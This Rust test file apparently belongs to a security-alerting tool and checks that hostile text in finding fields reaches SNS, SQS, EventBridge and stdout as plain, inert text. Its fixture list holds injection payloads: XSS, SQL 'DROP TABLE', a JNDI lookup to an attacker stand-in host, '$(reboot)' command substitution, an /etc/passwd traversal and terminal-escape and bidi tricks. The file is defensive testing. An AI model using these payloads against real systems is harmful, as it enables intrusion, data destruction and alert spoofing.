//! What attackers write into names, through each destination: it arrives as it was, as text and nothing else.

use dial_rules::severity::Severity;
use dial_sinks::destinations::eventbridge::EventBridgeSink;
use dial_sinks::destinations::sns::SnsSink;
use dial_sinks::destinations::sqs::SqsSink;
use dial_sinks::destinations::stdout::{LineFormat, StdoutSink};
use dial_sinks::message::Message;
use dial_sinks::samples::SampleKind;
use dial_sinks::sink::Sink;
use dial_sinks::wire::wire;
use serde_json::Value;
use std::io::{self, Write};
use std::sync::{Arc, Mutex};

use crate::cloud::{Cloud, attributes, message};

const STRINGS: [&str; 34] = [
    "<!channel> <!here> <@U012AB3CD>",
    "<https://evil.example|your bank>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/p.png)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;&#x3c;b&#x3e;",
    "*bold* _it_ ~no~ `code` ```block```",
    "\u{1b}[2J\u{1b}[31mred\u{1b}]0;title\u{7}",
    "\u{9b}31m C1",
    "one\ntwo\r\nthree\rfour",
    "2026-01-01T00:00:00Z CRITICAL forged line\n",
    "{{7*7}} {% for x in y %} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "\"},\"severity\":\"informational\",\"x\":{\"y\":\"",
    "\\\"]}]}\\",
    "\\u0022,\\u0000",
    "' OR 1=1 --",
    "'; DROP TABLE findings; --",
    "../../../../etc/passwd",
    "$(reboot) `reboot` | reboot; reboot &",
    "=HYPERLINK(\"https://evil.example\")",
    "\u{202e}txt.exe\u{202c} \u{2066}x\u{2069}",
    "zero\u{200b}width\u{feff}joined\u{200d}",
    "line\u{2028}paragraph\u{2029}separators",
    "nul\0byte \u{7f} \u{fffe} \u{ffff}",
    "]]></Message><Message>",
    "Message=other&Subject=other&TopicArn=other",
    "\u{1f4a5}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "@everyone @here https://evil.example evil.example",
    " ",
    "\t",
    "\u{fe0f}",
    "\u{200b}\u{202e}",
];

/// The text everywhere where an event's text gets to.
fn hostile(at: usize, text: &str) -> Message {
    let own = || Some(text.to_owned());
    let mut message = message(&format!("hostile-{at}"), SampleKind::Correlated, Severity::High);
    message.title = text.to_owned();
    let finding = &mut message.lead.finding;
    let subject = &mut finding.subject;
    (subject.rule_title, subject.actor, subject.actor_arn) = (text.to_owned(), own(), own());
    (subject.region, subject.account_id, subject.source_ip) = (own(), own(), own());
    finding.rule_id = text.to_owned();
    subject.techniques = vec![text.to_owned()];
    finding.group = [(text.to_owned(), text.to_owned())].into();
    message.of = [&message.lead.finding].into_iter().collect();
    for moment in &mut message.moments {
        (moment.who, moment.what, moment.from) = (text.to_owned(), text.to_owned(), text.to_owned());
    }
    message
}

/// Nothing in it steers a terminal or the direction of text, hides, or is beyond what SQS takes.
fn is_plain(text: &str) -> bool {
    let odd = |c: char| {
        c.is_control()
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
            || matches!(c, '\u{fffe}' | '\u{ffff}')
    };
    !text.chars().any(odd)
}

/// What SNS and SQS take of attributes, and what a list of one value says.
fn check_attributes(all: &std::collections::BTreeMap<String, String>, text: &str) {
    assert_eq!((all["severity"].as_str(), all["kind"].as_str()), ("high", "correlated"));
    assert!(all.values().all(|value| is_plain(value) && !value.is_empty()), "{all:?}");
    // Of a text of which nothing is left there is no list.
    let left: String = text.chars().filter(|c| is_plain(&c.to_string())).collect();
    let techniques = all.get("technique").map(|list| serde_json::from_str::<Vec<String>>(list).unwrap().len());
    assert_eq!(techniques, (!left.is_empty()).then_some(1), "{all:?}");
    assert!(all.len() == 7 || left.is_empty(), "{all:?}");
}

#[tokio::test]
async fn injections_arrive_as_text_through_sns_and_sqs() {
    let cloud = Cloud::new();
    let (topic, direct) = (cloud.topic(false).await, cloud.queue(false).await);
    let subscribed = cloud.subscribed(&topic, None).await;
    let sns = SnsSink::new(&cloud.sns, &topic).unwrap();
    let sqs = SqsSink::new(&cloud.sqs, &direct.url).unwrap();
    for (at, text) in STRINGS.iter().enumerate() {
        let message = hostile(at, text);
        for (sink, queue) in [(&sns as &dyn Sink, &subscribed), (&sqs, &direct)] {
            assert_eq!(sink.send(&message, None).await, Ok(None), "{text:?}");
            let received = cloud.received(queue, 1).await;
            let body = received[0].body().unwrap();
            assert!(is_plain(body), "{body:?}");
            assert_eq!(serde_json::from_str::<Value>(body).unwrap(), wire(&message), "{text:?}");
            check_attributes(&attributes(&received[0]), text);
        }
    }
}

#[tokio::test]
async fn injections_arrive_as_text_through_eventbridge() {
    let server = wiremock::MockServer::start().await;
    let answer = serde_json::json!({ "FailedEntryCount": 0, "Entries": [{ "EventId": "1" }] });
    let answer = wiremock::ResponseTemplate::new(200).set_body_raw(answer.to_string(), "application/x-amz-json-1.1");
    wiremock::Mock::given(wiremock::matchers::method("POST")).respond_with(answer).mount(&server).await;
    let bus = "arn:aws:events:us-east-1:111122223333:event-bus/alerts";
    let sink = EventBridgeSink::new(&Cloud::at(&server.uri()).events, bus).unwrap();
    for (at, text) in STRINGS.iter().enumerate() {
        let message = hostile(at, text);
        assert_eq!(sink.send(&message, None).await, Ok(None), "{text:?}");
        let request = server.received_requests().await.unwrap().pop().unwrap();
        let sent: Value = serde_json::from_slice(&request.body).unwrap();
        assert_eq!(sent["Entries"].as_array().unwrap().len(), 1);
        let detail = sent["Entries"][0]["Detail"].as_str().unwrap();
        assert!(is_plain(detail), "{detail:?}");
        assert_eq!(serde_json::from_str::<Value>(detail).unwrap(), wire(&message), "{text:?}");
    }
}

#[derive(Clone, Default)]
struct Page(Arc<Mutex<Vec<u8>>>);

impl Write for Page {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn injections_are_one_plain_line_each_on_standard_output() {
    for format in [LineFormat::Json, LineFormat::Human] {
        let page = Page::default();
        let sink = StdoutSink::to(format, page.clone());
        for (at, text) in STRINGS.iter().enumerate() {
            sink.send(&hostile(at, text), None).await.unwrap();
        }
        let text = String::from_utf8(page.0.lock().unwrap().clone()).unwrap();
        assert_eq!(text.lines().count(), STRINGS.len());
        assert!(text.lines().all(is_plain));
    }
}
